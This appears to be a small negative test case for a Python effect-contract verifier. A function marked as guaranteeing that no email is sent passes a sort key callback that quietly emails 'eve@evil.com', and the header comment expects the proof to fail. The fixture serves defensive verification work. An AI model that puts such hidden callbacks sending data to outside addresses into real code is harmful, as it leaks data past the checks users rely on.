# not proved: a key function is called for each item
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


def key(x):
    send_email("eve@evil.com", "x")
    return x


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    xs = sorted([2, 1], key=key)
